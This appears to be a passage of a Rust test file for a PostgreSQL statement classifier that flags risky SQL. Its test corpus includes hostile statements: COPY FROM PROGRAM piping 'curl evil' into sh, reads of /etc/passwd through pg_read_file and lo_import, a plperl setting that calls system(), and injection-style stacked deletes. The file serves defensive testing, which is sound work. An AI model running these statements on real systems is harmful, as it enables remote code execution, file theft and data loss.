use std::str::FromStr;
use std::sync::Arc;

use super::StatementClass::{self, Admin, Ddl, Delete, Read, Unknown, Write};
use super::*;

fn classifier() -> Classifier {
    Classifier::new(&["audit.purge".to_string(), "Wipe_All".to_string()])
}

/// The bypass corpus: each text, the class it must get, and exactly the
/// flags (over all its statements) it must carry.
const CORPUS: &[(&str, StatementClass, &[&str])] = &[
    // Plain reads, and disguises that must stay reads.
    ("SELECT 1", Read, &[]),
    ("SeLeCt * FrOm users", Read, &[]),
    ("/* DELETE FROM t */ SELECT 1", Read, &[]),
    ("-- DROP TABLE t\nSELECT 1", Read, &[]),
    ("SELECT $$DELETE FROM t$$", Read, &[]),
    ("SELECT $tag$ DROP TABLE users; $tag$ AS x", Read, &[]),
    ("SELECT 'pg_read_file(''/etc/passwd'')'", Read, &[]),
    ("SELECT \"delete\" FROM \"drop\"", Read, &[]),
    ("VALUES (1), (2)", Read, &[]),
    ("TABLE users", Read, &[]),
    ("WITH x AS (SELECT 1) SELECT * FROM x", Read, &[]),
    ("SELECT count(*), lower(name) FROM users GROUP BY 2", Read, &[]),
    ("SELECT abalance FROM pgbench_accounts WHERE aid = $1", Read, &[]),
    ("EXPLAIN DELETE FROM t", Read, &[]),
    ("EXPLAIN (ANALYZE false) DELETE FROM t", Read, &[]),
    ("EXPLAIN (ANALYZE off, COSTS on) UPDATE t SET a = 1", Read, &[]),
    ("EXPLAIN ANALYZE SELECT 1", Read, &["explain_analyze"]),
    ("SHOW search_path", Read, &[]),
    ("SET search_path TO app, public", Read, &[]),
    ("SET statement_timeout = '5s'", Read, &[]),
    ("SET LOCAL lock_timeout = 100", Read, &[]),
    ("RESET ALL", Read, &[]),
    ("BEGIN", Read, &[]),
    ("BEGIN ISOLATION LEVEL SERIALIZABLE READ ONLY", Read, &[]),
    ("START TRANSACTION", Read, &[]),
    ("SAVEPOINT s1", Read, &[]),
    ("RELEASE SAVEPOINT s1", Read, &[]),
    ("ROLLBACK TO SAVEPOINT s1", Read, &[]),
    ("COMMIT", Read, &[]),
    ("ROLLBACK", Read, &[]),
    ("SET default_transaction_read_only = on", Read, &[]),
    ("DISCARD ALL", Read, &[]),
    ("LISTEN jobs", Read, &[]),
    ("UNLISTEN *", Read, &[]),
    ("DEALLOCATE ALL", Read, &[]),
    ("DECLARE c CURSOR FOR SELECT * FROM t", Read, &[]),
    ("FETCH 10 FROM c", Read, &[]),
    ("CLOSE c", Read, &[]),
    ("COPY t TO STDOUT", Read, &[]),
    ("COPY (SELECT * FROM t WHERE a > 1) TO STDOUT WITH (FORMAT csv)", Read, &[]),
    ("", Read, &[]),
    ("-- only a comment", Read, &[]),
    // Writes.
    ("INSERT INTO t VALUES (1)", Write, &[]),
    ("INSERT INTO t (a) VALUES (1) ON CONFLICT (a) DO UPDATE SET a = excluded.a", Write, &["upsert"]),
    ("INSERT INTO t (a) VALUES (1) ON CONFLICT DO NOTHING", Write, &[]),
    ("UPDATE t SET a = 1 WHERE id = 2", Write, &[]),
    ("UPDATE t SET a = 1", Write, &["update_without_where"]),
    (
        "UPDATE pgbench_accounts SET abalance = abalance + $1 WHERE aid = $2",
        Write,
        &[],
    ),
    (
        "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = s.a WHEN NOT MATCHED THEN INSERT VALUES (s.id, s.a)",
        Write,
        &[],
    ),
    ("SELECT * FROM t WHERE id = 1 FOR UPDATE", Write, &["row_locks"]),
    ("SELECT * FROM t FOR SHARE SKIP LOCKED", Write, &["row_locks"]),
    ("SELECT * FROM t WHERE id = 1 FOR NO KEY UPDATE OF t NOWAIT", Write, &["row_locks"]),
    ("SELECT 1 FROM t WHERE pg_try_advisory_lock(id)", Write, &["side_effect_function"]),
    ("SELECT * FROM (SELECT * FROM t FOR UPDATE) s", Write, &["row_locks"]),
    ("WITH i AS (INSERT INTO t VALUES (1) RETURNING id) SELECT * FROM i", Write, &["data_modifying_cte"]),
    ("COPY t FROM STDIN", Write, &["copy_from"]),
    ("LOCK TABLE t IN ACCESS EXCLUSIVE MODE", Write, &["lock_table"]),
    ("NOTIFY jobs, 'go'", Write, &["notify"]),
    ("SELECT pg_notify('jobs', 'go')", Write, &["side_effect_function"]),
    ("SELECT nextval('s')", Write, &["side_effect_function"]),
    ("SELECT setval('s', 1)", Write, &["side_effect_function"]),
    ("INSERT INTO t VALUES (nextval('s'))", Write, &["side_effect_function"]),
    ("SELECT set_config('search_path', 'x', false)", Write, &["side_effect_function"]),
    ("SELECT pg_advisory_lock(42)", Write, &["side_effect_function"]),
    ("SELECT * FROM t LIMIT (SELECT nextval('s'))", Write, &["side_effect_function"]),
    ("VALUES (pg_catalog.NEXTVAL('s'))", Write, &["side_effect_function"]),
    ("REFRESH MATERIALIZED VIEW mv", Write, &[]),
    ("EXPLAIN ANALYZE INSERT INTO t VALUES (1)", Write, &["explain_analyze"]),
    ("PREPARE p (int) AS UPDATE t SET a = $1 WHERE id = 1", Write, &[]),
    // Deletes.
    ("DELETE FROM t WHERE id = 1", Delete, &[]),
    ("DELETE FROM t", Delete, &["delete_without_where"]),
    ("delete from t -- WHERE id = 1", Delete, &["delete_without_where"]),
    ("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", Delete, &["delete_without_where", "data_modifying_cte"]),
    (
        "WITH a AS (SELECT 1), b AS (WITH c AS (DELETE FROM t WHERE x = 1 RETURNING 1) SELECT * FROM c) SELECT * FROM b",
        Delete,
        &["data_modifying_cte"],
    ),
    ("SELECT 1; -- \n DELETE FROM t", Delete, &["delete_without_where"]),
    ("SELECT 1; DELETE FROM t WHERE id = 1; SELECT 2", Delete, &[]),
    ("TRUNCATE t", Delete, &["truncate"]),
    ("TRUNCATE TABLE a, b RESTART IDENTITY CASCADE", Delete, &["truncate"]),
    ("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", Delete, &[]),
    ("EXPLAIN ANALYZE DELETE FROM t", Delete, &["delete_without_where", "explain_analyze"]),
    ("EXPLAIN (ANALYZE, BUFFERS) DELETE FROM t WHERE a = 1", Delete, &["explain_analyze"]),
    ("EXPLAIN (ANALYZE 1) DELETE FROM t WHERE a = 1", Delete, &["explain_analyze"]),
    ("EXPLAIN (ANALYZE 'on') DELETE FROM t WHERE a = 1", Delete, &["explain_analyze"]),
    ("PREPARE d AS DELETE FROM t", Delete, &["delete_without_where"]),
    ("COPY (DELETE FROM t RETURNING *) TO STDOUT", Delete, &["delete_without_where"]),
    ("SELECT lo_unlink(1234)", Delete, &["side_effect_function"]),
    // WHERE clauses that pick no rows are no WHERE at all.
    ("DELETE FROM t WHERE true", Delete, &["delete_without_where"]),
    ("DELETE FROM t WHERE 1 = 1", Delete, &["delete_without_where"]),
    ("DELETE FROM t WHERE $1", Delete, &["delete_without_where"]),
    ("DELETE FROM t WHERE now() > '2000-01-01'", Delete, &["delete_without_where"]),
    ("DELETE FROM t WHERE id = 5 OR 'x' = 'x'", Delete, &["delete_without_where"]),
    ("UPDATE t SET a = 1 WHERE id = 5 OR 't'::boolean", Write, &["update_without_where"]),
    ("UPDATE t SET a = 1 WHERE NOT false", Write, &["update_without_where"]),
    (
        "WITH d AS (DELETE FROM t WHERE 1 >= 1 RETURNING 1) SELECT * FROM d",
        Delete,
        &["delete_without_where", "data_modifying_cte"],
    ),
    ("DELETE FROM t WHERE id = 1 OR id = 2", Delete, &[]),
    ("DELETE FROM t WHERE CURRENT OF c", Delete, &[]),
    ("MERGE INTO t USING s ON t.id = s.id WHEN NOT MATCHED BY SOURCE THEN DELETE", Delete, &[]),
    // Schema changes.
    ("CREATE TABLE x (a int)", Ddl, &[]),
    ("CREATE TABLE x AS SELECT * FROM t", Ddl, &["select_into"]),
    ("SELECT * INTO x FROM t", Ddl, &["select_into"]),
    ("CREATE MATERIALIZED VIEW mv AS SELECT 1", Ddl, &["select_into"]),
    ("CREATE INDEX CONCURRENTLY i ON t (a)", Ddl, &[]),
    ("CREATE VIEW v AS SELECT * FROM t", Ddl, &[]),
    ("ALTER TABLE t ADD COLUMN b int", Ddl, &[]),
    ("ALTER TABLE t DROP COLUMN b", Ddl, &["drop"]),
    ("DROP TABLE t", Ddl, &["drop"]),
    ("drop table if exists t cascade", Ddl, &["drop"]),
    ("DROP SCHEMA app CASCADE", Ddl, &["drop"]),
    ("DROP DATABASE prod", Ddl, &["drop"]),
    ("CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ DELETE FROM t; SELECT 1 $$", Ddl, &[]),
    ("COMMENT ON TABLE t IS 'x'", Ddl, &[]),
    ("ALTER TABLE t RENAME TO u", Ddl, &[]),
    ("CREATE SEQUENCE s", Ddl, &[]),
    ("CREATE TABLE x (a int DEFAULT nextval('s'))", Ddl, &["side_effect_function"]),
    ("CREATE TABLE x AS EXECUTE p", Unknown, &["select_into", "execute"]),
    ("CREATE TRIGGER tr BEFORE INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()", Ddl, &[]),
    // Admin.
    ("GRANT SELECT ON t TO bob", Admin, &["grant"]),
    ("REVOKE ALL ON t FROM bob", Admin, &["grant"]),
    ("GRANT admin TO bob", Admin, &["grant"]),
    ("CREATE SCHEMA s CREATE TABLE x (a int) GRANT SELECT ON x TO bob", Admin, &["grant"]),
    ("CREATE ROLE eve SUPERUSER LOGIN", Admin, &["role_admin"]),
    ("ALTER ROLE bob WITH PASSWORD 'x'", Admin, &["role_admin"]),
    ("DROP ROLE bob", Admin, &["drop", "role_admin"]),
    ("ALTER SYSTEM SET work_mem = '1GB'", Admin, &["alter_system"]),
    ("VACUUM FULL t", Admin, &["maintenance"]),
    ("ANALYZE t", Admin, &["maintenance"]),
    ("CLUSTER t USING i", Admin, &["maintenance"]),
    ("REINDEX TABLE t", Admin, &["maintenance"]),
    ("CHECKPOINT", Admin, &[]),
    ("LOAD 'plpgsql'", Admin, &[]),
    ("CREATE EXTENSION dblink", Admin, &[]),
    ("SET ROLE postgres", Admin, &["set_role"]),
    ("set local role none", Admin, &["set_role"]),
    ("RESET ROLE", Admin, &["set_role"]),
    ("SET SESSION AUTHORIZATION postgres", Admin, &["set_role"]),
    ("SET session_replication_role = replica", Admin, &["guarded_setting"]),
    ("SET log_statement = 'none'", Admin, &["guarded_setting"]),
    // Settings fail closed: only those any user may set for the session
    // alone are ordinary (the upstream account may be a superuser).
    ("SET jit_dump_bitcode = on", Admin, &["guarded_setting"]),
    ("SET track_activities = off", Admin, &["guarded_setting"]),
    ("SET compute_query_id = off", Admin, &["guarded_setting"]),
    ("SET temp_file_limit = -1", Admin, &["guarded_setting"]),
    ("SET no_such_setting = 1", Admin, &["guarded_setting"]),
    ("SET pg_stat_statements.track = 'none'", Admin, &["guarded_setting"]),
    ("SET auto_explain.log_analyze = on", Admin, &["guarded_setting"]),
    ("SELECT set_config('track_functions', 'none', false)", Admin, &["side_effect_function", "guarded_setting"]),
    ("SET jit = on", Read, &[]),
    ("SET enable_seqscan = off", Read, &[]),
    ("SET work_mem = '64MB'", Read, &[]),
    ("SET statement_timeout = 0", Read, &[]),
    ("SET TIME ZONE 'UTC'", Read, &[]),
    ("SET app.tenant_id = '42'", Read, &[]),
    ("SET request.jwt.claims = '{}'", Read, &[]),
    ("SET plperl.on_plperl_init = 'system(1)'", Admin, &["guarded_setting"]),
    ("SET tenant.id = '1'", Admin, &["guarded_setting"]),
    ("COPY pg_authid FROM STDIN", Admin, &["copy_from"]),
    ("COPY pg_catalog.pg_description FROM STDIN", Admin, &["copy_from"]),
    ("COPY pg_class TO STDOUT", Read, &[]),
    ("SELECT ('/etc/passwd'::text).pg_read_file", Admin, &["side_effect_function", "file_access"]),
    ("SELECT (12345).pg_terminate_backend", Admin, &["side_effect_function"]),
    ("SELECT t.lo_unlink FROM t", Delete, &["side_effect_function"]),
    ("SELECT set_config('app.tenant_id', '42', false)", Write, &["side_effect_function"]),
    // System catalogs are administration, whatever the verb.
    ("UPDATE pg_settings SET setting = 'replica' WHERE name = 'session_replication_role'", Admin, &["guarded_setting"]),
    ("UPDATE pg_catalog.pg_settings SET setting = 'on' WHERE name = 'backslash_quote'", Admin, &["guarded_setting"]),
    ("UPDATE pg_catalog.pg_proc SET provolatile = 'i' WHERE proname = 'f'", Admin, &[]),
    ("DELETE FROM pg_authid WHERE rolname = 'x'", Admin, &[]),
    ("INSERT INTO pg_catalog.pg_description VALUES (1, 2, 0, 'x')", Admin, &[]),
    ("WITH x AS (UPDATE pg_settings SET setting = 'off' WHERE name = 'jit' RETURNING 1) SELECT * FROM x", Admin, &["guarded_setting", "data_modifying_cte"]),
    ("INSERT INTO t SELECT oid FROM pg_class", Write, &[]),
    ("SET default_transaction_read_only = off", Admin, &["read_only_override"]),
    ("SET transaction_read_only TO false", Admin, &["read_only_override"]),
    ("RESET transaction_read_only", Admin, &["read_only_override"]),
    ("SET LOCAL transaction_read_only TO DEFAULT", Admin, &["read_only_override"]),
    ("SET transaction_read_only = on", Read, &[]),
    ("RESET default_transaction_read_only", Read, &[]),
    ("SET default_transaction_read_only TO DEFAULT", Read, &[]),
    ("BEGIN READ WRITE", Admin, &["read_only_override"]),
    ("START TRANSACTION ISOLATION LEVEL REPEATABLE READ, READ WRITE", Admin, &["read_only_override"]),
    ("SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE", Admin, &["read_only_override"]),
    ("PREPARE TRANSACTION 'x'", Admin, &[]),
    ("COMMIT PREPARED 'x'", Admin, &[]),
    ("COPY t FROM '/etc/passwd'", Admin, &["copy_from", "file_access"]),
    ("COPY t TO '/tmp/out.csv'", Admin, &["file_access"]),
    ("COPY t FROM PROGRAM 'curl evil | sh'", Admin, &["copy_from", "copy_program"]),
    ("COPY (SELECT 1) TO PROGRAM 'cat > /tmp/x'", Admin, &["copy_program"]),
    ("SELECT pg_read_file('/etc/passwd')", Admin, &["side_effect_function", "file_access"]),
    ("SELECT * FROM pg_ls_dir('.')", Admin, &["side_effect_function", "file_access"]),
    ("SELECT lo_import('/etc/passwd')", Admin, &["side_effect_function", "file_access"]),
    ("SELECT pg_catalog.pg_terminate_backend(pid) FROM pg_stat_activity", Admin, &["side_effect_function"]),
    ("SELECT \"pg_cancel_backend\"(123)", Admin, &["side_effect_function"]),
    ("SELECT PG_RELOAD_CONF()", Admin, &["side_effect_function"]),
    ("SELECT U&\"pg\\005fread\\005ffile\"('/etc/passwd')", Admin, &["side_effect_function", "file_access"]),
    ("SELECT postgres.pg_catalog.pg_read_file('x')", Admin, &["side_effect_function", "file_access"]),
    ("SET \"session_replication_role\" = 'replica'", Admin, &["guarded_setting"]),
    ("SELECT 1 WHERE EXISTS (SELECT pg_terminate_backend(1))", Admin, &["side_effect_function"]),
    ("SELECT coalesce(NULL, pg_read_file('x'))", Admin, &["side_effect_function", "file_access"]),
    ("SELECT length(upper(pg_read_binary_file('x')::text))", Admin, &["side_effect_function", "file_access"]),
    ("WITH x AS (SELECT pg_switch_wal()) SELECT * FROM x", Admin, &["side_effect_function"]),
    ("SELECT * FROM t ORDER BY pg_cancel_backend(1)", Admin, &["side_effect_function"]),
    ("SELECT count(*) FILTER (WHERE pg_reload_conf()) FROM t", Admin, &["side_effect_function"]),
    ("SELECT sum(a) OVER (PARTITION BY pg_rotate_logfile()) FROM t", Admin, &["side_effect_function"]),
    ("SELECT CASE WHEN a THEN pg_promote() END FROM t", Admin, &["side_effect_function"]),
    ("SELECT * FROM t OFFSET (SELECT pg_logical_emit_message(true, 'x', 'y'))::int", Admin, &["side_effect_function"]),
    ("SELECT set_config('role', 'postgres', false)", Admin, &["side_effect_function", "set_role"]),
    ("SELECT set_config('session_replication_role', 'replica', true)", Admin, &["side_effect_function", "guarded_setting"]),
    ("SELECT set_config(name, 'x', false) FROM pg_settings", Admin, &["side_effect_function"]),
    ("SELECT purge()", Admin, &["side_effect_function"]),
    ("SELECT audit.purge()", Admin, &["side_effect_function"]),
    ("SELECT wipe_all()", Admin, &["side_effect_function"]),
    ("EXPLAIN ANALYZE SELECT pg_terminate_backend(1)", Admin, &["side_effect_function", "explain_analyze"]),
    // Unknown.
    ("DO $$ BEGIN DELETE FROM t; END $$", Unknown, &["do_block"]),
    ("DO LANGUAGE plpgsql 'BEGIN PERFORM 1; END'", Unknown, &["do_block"]),
    ("CALL do_things(1)", Unknown, &["call"]),
    ("EXECUTE p(1)", Unknown, &["execute"]),
    ("SELECT * FROM dblink('dbname=x', 'DELETE FROM t') AS r(a int)", Unknown, &["side_effect_function"]),
    ("SELECT query_to_xml('DELETE FROM t RETURNING *', true, false, '')", Unknown, &["side_effect_function"]),
    ("SELEC 1", Unknown, &[]),
    ("DELETE FROM", Unknown, &[]),
    ("SELECT 1; DROP TABLE t; DO $$ BEGIN END $$", Unknown, &["drop", "do_block"]),
    ("SELECT 'unterminated", Unknown, &[]),
    // The lexical environment gatehouse pins: changing it is refused
    // (`lexical_setting`), keeping it is not.
    ("SET standard_conforming_strings = off", Admin, &["lexical_setting"]),
    ("SET standard_conforming_strings TO 0", Admin, &["lexical_setting"]),
    ("set local standard_conforming_strings = false", Admin, &["lexical_setting"]),
    ("SET standard_conforming_strings = on", Read, &[]),
    ("SET standard_conforming_strings TO DEFAULT", Read, &[]),
    ("RESET standard_conforming_strings", Read, &[]),
    ("SET client_encoding = 'SJIS'", Admin, &["lexical_setting"]),
    ("SET NAMES 'big5'", Admin, &["lexical_setting"]),
    ("SET client_encoding TO 'UTF-8'", Read, &[]),
    ("SET NAMES 'unicode'", Read, &[]),
    ("SET \"Client_Encoding\" = 'gbk'", Admin, &["lexical_setting"]),
    ("SET backslash_quote = on", Admin, &["lexical_setting"]),
    ("SET backslash_quote = safe_encoding", Admin, &["lexical_setting"]),
    ("SET backslash_quote = off", Read, &[]),
    (
        "SELECT set_config('standard_conforming_strings', 'off', false)",
        Admin,
        &["side_effect_function", "lexical_setting"],
    ),
    (
        "SELECT set_config('client_encoding', 'UTF8', false)",
        Write,
        &["side_effect_function"],
    ),
    (
        "SELECT set_config('client_encoding', x, false) FROM t",
        Admin,
        &["side_effect_function", "lexical_setting"],
    ),
    // Text that standard strings read as one literal: a read (the server
    // reads it the same way, since gatehouse pins the settings).
    ("SELECT 'a\\' , '; DELETE FROM t; SELECT ' --'", Read, &[]),
    // Names SQL gives to statements and cursors.
    ("PREPARE q AS SELECT 1", Read, &[]),
    ("DECLARE c2 CURSOR WITH HOLD FOR SELECT 1", Read, &[]),
    // Functions named nowhere in the table: the catalog decides (see
    // sql::catalog); syntactically they are reads.
    ("SELECT my_fn()", Read, &[]),
    ("SELECT 1 WHERE my_fn() > 0", Read, &[]),
    ("SELECT ts_rewrite('a'::tsquery, 'SELECT a, b FROM aliases')", Unknown, &["side_effect_function"]),
];

#[test]
fn bypass_corpus() {
    let c = classifier();
    let mut failures = Vec::new();
    for &(sql, class, flags) in CORPUS {
        let got = c.classify(sql);
        let mut want: Vec<&str> = flags.to_vec();
        want.sort_unstable();
        let mut have = got.flags().names();
        have.sort_unstable();
        if got.class != class || have != want {
            failures.push(format!(
                "{sql:?}: want {class} {want:?}, got {} {have:?} ({:?})",
                got.class,
                got.statements.iter().map(|s| s.command.as_str()).collect::<Vec<_>>()
            ));
        }
    }
    assert!(CORPUS.len() >= 60);
    assert!(
        failures.is_empty(),
        "{} of {} wrong:\n{}",
        failures.len(),
        CORPUS.len(),
        failures.join("\n")
    );
}

fn one(sql: &str) -> StatementInfo {
    let c = classifier().classify(sql);
    assert_eq!(c.statements.len(), 1, "{sql}: {c:?}");
    c.statements[0].clone()
}

#[test]
fn commands() {
    let cases = [
        ("select 1", "SELECT"),
        ("SELECT * INTO x FROM t", "SELECT INTO"),
        ("INSERT INTO t VALUES (1)", "INSERT"),
        ("UPDATE t SET a = 1", "UPDATE"),
        ("DELETE FROM t", "DELETE"),
        ("MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE", "MERGE"),
        ("CREATE TABLE x (a int)", "CREATE TABLE"),
        ("CREATE TABLE x AS SELECT 1", "CREATE TABLE AS"),
        ("DROP TABLE t", "DROP TABLE"),
        ("DROP MATERIALIZED VIEW mv", "DROP MATERIALIZED VIEW"),
        ("ALTER INDEX i RENAME TO j", "ALTER INDEX RENAME"),
        ("TRUNCATE t", "TRUNCATE"),
        ("ALTER SYSTEM SET x = 1", "ALTER SYSTEM"),
        ("COPY t FROM STDIN", "COPY FROM"),
        ("COPY t TO STDOUT", "COPY TO"),
        ("DO $$ BEGIN END $$", "DO"),
        ("CALL p()", "CALL"),
        ("SET ROLE bob", "SET ROLE"),
        ("RESET ROLE", "RESET ROLE"),
        ("SET SESSION AUTHORIZATION bob", "SET SESSION AUTHORIZATION"),
        ("SET x.y = 1", "SET"),
        ("SET TRANSACTION ISOLATION LEVEL SERIALIZABLE", "SET TRANSACTION"),
        ("EXPLAIN ANALYZE DELETE FROM t", "EXPLAIN ANALYZE"),
        ("EXPLAIN SELECT 1", "EXPLAIN"),
        ("GRANT SELECT ON t TO bob", "GRANT"),
        ("REVOKE SELECT ON t FROM bob", "REVOKE"),
        ("VACUUM t", "VACUUM"),
        ("ANALYZE t", "ANALYZE"),
        ("PREPARE p AS SELECT 1", "PREPARE"),
        ("EXECUTE p", "EXECUTE"),
        ("BEGIN", "BEGIN"),
        ("SHOW ALL", "SHOW"),
        (
            "CREATE PROCEDURE p() LANGUAGE sql AS $$ SELECT 1 $$",
            "CREATE PROCEDURE",
        ),
    ];
    for (sql, command) in cases {
        assert_eq!(one(sql).command, command, "{sql}");
    }
}

#[test]
fn multi_statement_lists_each() {
    let c = classifier().classify("SELECT 1; UPDATE t SET a = 1 WHERE b; DELETE FROM u WHERE c; GRANT x TO y");
    let classes: Vec<_> = c.statements.iter().map(|s| s.class).collect();
    assert_eq!(classes, vec![Read, Write, Delete, Admin]);
    assert_eq!(c.class, Admin);
    assert!(c.error.is_none());
}

#[test]
fn tables_exclude_ctes_and_keep_schemas() {
    let s = one("WITH d AS (DELETE FROM app.t RETURNING *) SELECT * FROM d JOIN u ON true JOIN public.d ON true");
    assert_eq!(s.tables, vec!["app.t", "u", "public.d"]);
    let s = one("INSERT INTO a SELECT * FROM b WHERE id IN (SELECT id FROM c)");
    assert_eq!(s.tables, vec!["a", "b", "c"]);
}

#[test]
fn functions_and_calls() {
    let s = one("SELECT lower(x), nextval('s'), pg_catalog.pg_read_file('f') FROM t WHERE f(y)");
    assert_eq!(s.functions, vec!["nextval", "pg_catalog.pg_read_file"]);
    assert_eq!(s.calls, vec!["lower", "nextval", "pg_catalog.pg_read_file", "f"]);
    assert_eq!(s.class, Admin);

    let s = one("CALL app.refresh(nextval('s'))");
    assert_eq!(s.class, Unknown);
    assert!(s.functions.contains(&"app.refresh".to_string()));
    assert!(s.functions.contains(&"nextval".to_string()));

    // A schema-qualified entry matches only its schema (and the bare name).
    let s = one("SELECT other.purge()");
    assert_eq!(s.class, Read);
    assert!(s.functions.is_empty());
}

#[test]
fn side_effects_nested_in_arguments_and_clauses() {
    for sql in [
        "SELECT format('%s', pg_read_file('x'))",
        "SELECT * FROM t WHERE a IN (VALUES (pg_read_file('x')))",
        "SELECT * FROM t JOIN LATERAL pg_ls_dir('.') d ON true",
        "SELECT * FROM ROWS FROM (pg_ls_dir('.'))",
        "SELECT (SELECT (SELECT pg_read_file('x')))",
        "SELECT ARRAY[pg_read_file('x')]",
        "SELECT row(pg_read_file('x'))",
        "SELECT * FROM t GROUP BY a HAVING max(pg_read_file('x')) > ''",
        "SELECT * FROM t WINDOW w AS (ORDER BY pg_read_file('x'))",
        "SELECT * FROM t LIMIT length(pg_read_file('x'))",
        "SELECT json_build_object('a', pg_read_file('x'))",
        "SELECT pg_read_file('x') COLLATE \"C\"",
        "SELECT x FROM t TABLESAMPLE bernoulli (length(pg_read_file('x')))",
        "SELECT 1 UNION ALL SELECT length(pg_read_file('x'))",
        "INSERT INTO t SELECT pg_read_file('x')",
        "UPDATE t SET a = pg_read_file('x') WHERE id = 1",
        "DELETE FROM t WHERE a = pg_read_file('x')",
        "DECLARE c CURSOR FOR SELECT pg_read_file('x')",
        "PREPARE q AS SELECT pg_read_file('x')",
    ] {
        let c = classifier().classify(sql);
        assert!(c.class >= Admin, "{sql}: {c:?}");
        assert!(c.flags().file_access, "{sql}");
    }
}

#[test]
fn parse_errors_are_unknown_with_error() {
    let c = classifier().classify("SELEC 1");
    assert_eq!(c.class, Unknown);
    assert!(c.statements.is_empty());
    assert!(c.error.as_deref().is_some_and(|e| e.contains("syntax error")), "{c:?}");
    assert!(fingerprint("SELEC 1").starts_with("raw:"));
    let nul = classifier().classify("SELECT 1\0; DROP TABLE t");
    assert_eq!(nul.class, Unknown);
    assert!(nul.error.is_some());
}

#[test]
fn fingerprints() {
    let c = classifier();
    let a = fingerprint("SELECT * FROM t WHERE id = 1");
    let b = fingerprint("select *  from t where id = 42 /* x */");
    assert_eq!(a, b);
    assert_eq!(a.len(), 16);
    let other_table = fingerprint("SELECT * FROM t2 WHERE id = 1");
    assert_ne!(a, other_table);
    // Full relation names and schemas count.
    let p1 = fingerprint("DELETE FROM orders_2024_01 WHERE id = 1");
    let p2 = fingerprint("DELETE FROM orders_2024_02 WHERE id = 1");
    assert_ne!(p1, p2);
    let s1 = fingerprint("DELETE FROM a.t WHERE id = 1");
    let s2 = fingerprint("DELETE FROM b.t WHERE id = 1");
    assert_ne!(s1, s2);
    // Classification does not depend on it: the same class either way.
    assert_eq!(c.classify("SELECT * FROM t WHERE id = 1").class, Read);
}

#[test]
fn cache_hits_return_the_same_arc_and_stay_bounded() {
    let c = Classifier::with_side_effects(&[], 8);
    let a = c.classify("SELECT 1");
    let b = c.classify("SELECT 1");
    assert!(Arc::ptr_eq(&a, &b));
    // Different text, even by a space, is a different entry.
    let d = c.classify("SELECT  1");
    assert!(!Arc::ptr_eq(&a, &d));
    // (Column names, not constants: texts that differ in constants only
    // share their shape's entry, below.)
    for i in 0..100 {
        let _ = c.classify(&format!("SELECT c{i}"));
        assert!(c.cached() <= 8);
    }
    assert_eq!(c.cached(), 8);

    // A hot entry survives a stream of one-off texts (second chance).
    let c = Classifier::with_side_effects(&[], 4);
    let hot = c.classify("SELECT hot");
    for i in 0..50 {
        assert!(Arc::ptr_eq(&hot, &c.classify("SELECT hot")));
        let _ = c.classify(&format!("SELECT c{i}"));
    }

    // Disabled cache.
    let c = Classifier::with_side_effects(&[], 0);
    let a = c.classify("SELECT 1");
    assert!(!Arc::ptr_eq(&a, &c.classify("SELECT 1")));
    assert_eq!(c.cached(), 0);

    // Long texts are not cached.
    let c = classifier();
    let long = format!("SELECT '{}'", "x".repeat(Classifier::MAX_CACHED_SQL_LEN));
    assert_eq!(c.classify(&long).class, Read);
    assert_eq!(c.cached(), 0);
}

#[test]
fn class_order_names_and_parsing() {
    assert!(Read < Write && Write < Delete && Delete < Ddl && Ddl < Admin && Admin < Unknown);
    assert_eq!([Write, Unknown, Read].into_iter().max(), Some(Unknown));
    for class in StatementClass::ALL {
        assert_eq!(StatementClass::from_str(class.as_str()), Ok(class));
        assert_eq!(class.to_string(), class.as_str());
    }
    assert_eq!(" DDL ".parse::<StatementClass>(), Ok(Ddl));
    assert!("drop".parse::<StatementClass>().is_err());
}

#[test]
fn custom_effects() {
    let c = Classifier::with_side_effects(
        &[
            (
                "app.archive".to_string(),
                SideEffect {
                    class: Write,
                    file_access: false,
                },
            ),
            (
                "app.nuke".to_string(),
                SideEffect {
                    class: Delete,
                    file_access: false,
                },
            ),
        ],
        16,
    );
    assert_eq!(c.classify("SELECT app.archive(1)").class, Write);
    assert_eq!(c.classify("SELECT nuke()").class, Delete);
    assert_eq!(c.classify("SELECT other.nuke()").class, Read);
}

#[test]
fn deep_nesting_does_not_overflow() {
    let depth = 2000;
    let sql = format!("SELECT {}1{}", "(".repeat(depth), ")".repeat(depth));
    // Either classified or refused by the parser's own depth limit; never a
    // crash.
    let c = classifier().classify(&sql);
    assert!(c.class == Read || c.class == Unknown, "{:?}", c.class);
}

#[test]
fn classifier_is_send() {
    fn send<T: Send>() {}
    send::<Classifier>();
    send::<Arc<Classification>>();
}

#[test]
fn flags_helpers() {
    let f = Flags {
        drop: true,
        ..Flags::default()
    }
    .union(Flags {
        truncate: true,
        ..Flags::default()
    });
    assert_eq!(f.names(), vec!["drop", "truncate"]);
    assert!(!f.is_empty());
    assert!(Flags::default().is_empty());
    assert!(Flags::NAMES.contains(&"delete_without_where"));
}

#[test]
fn every_default_function_classifies() {
    let c = classifier();
    for (name, effect) in DEFAULT_SIDE_EFFECT_FUNCTIONS {
        let got = c.classify(&format!("SELECT {name}(1)"));
        assert!(got.class >= effect.class, "{name}: {got:?}");
        assert_eq!(got.statements[0].functions, vec![name.to_string()], "{name}");
        assert_eq!(got.flags().file_access, effect.file_access, "{name}");
    }
}

#[test]
fn names_created_by_sql_and_operators_are_listed() {
    let s = one("PREPARE q (int) AS SELECT $1 + 1");
    assert_eq!(s.prepared, vec!["q"]);
    assert_eq!(s.operators, vec!["+"]);
    let s = one("DECLARE \"Cur\" CURSOR FOR SELECT * FROM t WHERE a OPERATOR(pg_catalog.=) 1");
    assert_eq!(s.cursors, vec!["Cur"]);
    assert_eq!(s.operators, vec!["pg_catalog.="]);
    assert!(one("SELECT a FROM t WHERE b IN (1, 2) AND c LIKE 'x%'").operators.len() >= 2);
}

/// Classify `first` (so that its shape may be shared), then `second`:
/// what `second` gets, and what it gets on its own.
fn second_after_first(first: &str, second: &str) -> (Classification, Classification) {
    let c = classifier();
    let _ = c.classify(first);
    let _ = c.classify(first);
    let got = (*c.classify(second)).clone();
    (got, c.classify_uncached(second))
}

#[test]
fn texts_that_differ_in_constants_share_their_shape() {
    let c = classifier();
    let a = c.classify("SELECT abalance FROM pgbench_accounts WHERE aid = 1");
